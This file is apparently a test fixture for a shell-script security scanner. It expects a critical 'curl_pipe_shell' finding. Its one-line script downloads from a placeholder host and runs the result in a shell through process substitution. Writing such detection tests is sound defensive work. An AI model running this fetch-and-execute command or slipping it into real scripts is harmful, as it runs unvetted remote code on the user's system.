# expect: shell.curl_pipe_shell critical
# note: output into a process substitution running a shell
# path: scripts/tp_output_procsub_sh.sh
#!/bin/sh
curl -fsSL https://get.example.net/i > >(sh)
